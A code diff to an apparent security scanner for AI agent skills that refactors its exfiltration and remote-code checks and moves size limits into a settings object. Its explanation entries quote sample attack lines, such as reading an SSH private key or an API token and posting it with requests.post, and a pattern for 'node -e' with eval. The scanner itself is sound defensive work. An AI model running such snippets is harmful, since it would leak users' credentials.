@@ -10,9 +10,11 @@ Example: `key = open("~/.ssh/id_rsa").read()` and, later, `requests.post(url, da
 """
 
 from collections.abc import Iterator, Sequence
+from functools import partial
 
 from panguard.engine.views.markdown import CodeKind
-from panguard.findings import Finding, Phrase, phrase
+from panguard.findings import Finding, phrase
+from panguard.limits import Limits
 from panguard.scan.document import Document
 from panguard.scan.explanation import Explanation
 from panguard.scan.kind import FileKind
@@ -28,25 +30,14 @@ NAME = "exfiltration"
 
 _REFERENCES = ("ASI02", "ASI03", "AST01", "LLM02:2025", "AML.T0086", "CWE-200", "CWE-522")
 
-
-def _explanation(
-    finding_id: str, severity: Severity, title: Phrase, why: Phrase, *, lane: Lane, example: str
-) -> Explanation:
-    return Explanation(
-        id=finding_id,
-        severity=severity,
-        check=Check.SECRET_EXFILTRATION,
-        category=Category.CONTEXT_EXFILTRATION,
-        title=title,
-        why=why,
-        remedy=phrase("Do not run it. If it ran already, replace the keys and passwords that it could read."),
-        example=example,
-        innocent=phrase("Signing in with a key in the headers of a request is not flagged."),
-        references=_REFERENCES,
-        lane=lane,
-    )
-
-
+_explanation = partial(
+    Explanation,
+    remedy=phrase("Do not run it. If it ran already, replace the keys and passwords that it could read."),
+    check=Check.SECRET_EXFILTRATION,
+    category=Category.CONTEXT_EXFILTRATION,
+    innocent=phrase("Signing in with a key in the headers of a request is not flagged."),
+    references=("ASI02", "ASI03", "AST01", "LLM02:2025", "AML.T0086", "CWE-200", "CWE-522"),
+)
 CREDENTIALS = _explanation(
     "exfiltration-credentials",
     Severity.CRITICAL,
@@ -99,25 +90,15 @@ KEY = _explanation(
     example='requests.post(url, data=b64encode(os.environ["API_TOKEN"].encode()))',
 )
 
-
-def _running(finding_id: str, severity: Severity, title: Phrase, *, lane: Lane, example: str) -> Explanation:
-    return Explanation(
-        id=finding_id,
-        severity=severity,
-        check=Check.TOOL_POISONING,
-        category=Category.SKILL_COMPROMISE,
-        title=title,
-        why=phrase("What is run cannot be read here, and whoever controls it can change it at any time."),
-        remedy=phrase("Do not run it. Ask for the code itself, so that it can be read before it is run."),
-        example=example,
-        innocent=phrase(
-            "Reading data from a server, and running a file of the skill itself, is not flagged."
-        ),
-        references=("ASI04", "ASI05", "AST01", "LLM03:2025", "CWE-494", "CWE-506", "CWE-95"),
-        lane=lane,
-    )
-
-
+_running = partial(
+    Explanation,
+    why=phrase("What is run cannot be read here, and whoever controls it can change it at any time."),
+    remedy=phrase("Do not run it. Ask for the code itself, so that it can be read before it is run."),
+    check=Check.TOOL_POISONING,
+    category=Category.SKILL_COMPROMISE,
+    innocent=phrase("Reading data from a server, and running a file of the skill itself, is not flagged."),
+    references=("ASI04", "ASI05", "AST01", "LLM03:2025", "CWE-494", "CWE-506", "CWE-95"),
+)
 RUNS_DOWNLOAD = _running(
     "runs-downloaded-code",
     Severity.CRITICAL,
@@ -153,7 +134,7 @@ NOT_FOLLOWED = Explanation(
     check=Check.SECRET_EXFILTRATION,
     category=Category.CONTEXT_EXFILTRATION,
     title=phrase("Holds more program text than is followed"),
-    why=phrase("Secrets were not fully followed through this program; all other checks did read it."),
+    why=phrase("Secrets were not fully followed through this program; what it says was still checked."),
     remedy=phrase("Look through the program yourself, or ask why it is written so."),
     references=("AST08",),
     lane=Lane.ALERT,
@@ -223,8 +204,6 @@ _EXECUTES_IN = {
     _SHELL[0]: LinearPattern("executes-node", r"\bnode\s+-e\b[^\n]*\beval\(", ""),
 }
 _JOINED = LinearPattern("joined", r"'\s*\+\s*'|\"\s*\+\s*\"", "")
-_LONGEST_PROGRAM = 400_000
-_LONGEST_TOGETHER = 2_000_000
 
 
 @dataclass(frozen=True, slots=True)
@@ -243,7 +222,7 @@ def inspect_skill(skill: Skill, documents: Sequence[Document]) -> Iterator[Findi
     everything = [program for document in documents for program in _programs(document)]
     if not _worth_following(everything):
         return
-    programs, left_out = _within_bounds(everything)
+    programs, left_out = _within_bounds(everything, everything[0].document.limits)
     for program in left_out:
         yield program.document.finding(NOT_FOLLOWED, (program.offset, program.offset), layer=NAME)
     # Few skills read secrets and use the network: what follows them is not loaded for the others.
@@ -269,14 +248,14 @@ def _unparsed(program: _Program) -> Iterator[Finding]:
         )
 
 
-def _within_bounds(programs: Sequence[_Program]) -> tuple[list[_Program], list[_Program]]:
+def _within_bounds(programs: Sequence[_Program], limits: Limits) -> tuple[list[_Program], list[_Program]]:
     """Return the programs that are followed, and those left out: the longest, where there is too much."""
     followed: list[_Program] = []
     left_out: list[_Program] = []
-    room = _LONGEST_TOGETHER
+    room = limits.programs_characters
     for program in sorted(programs, key=lambda item: (len(item.text), item.document.file, item.offset)):
         size = len(program.text)
-        fits = size <= min(room, _LONGEST_PROGRAM)
+        fits = size <= min(room, limits.program_characters)
         (followed if fits else left_out).append(program)
         room -= size if fits else 0
     return followed, left_out
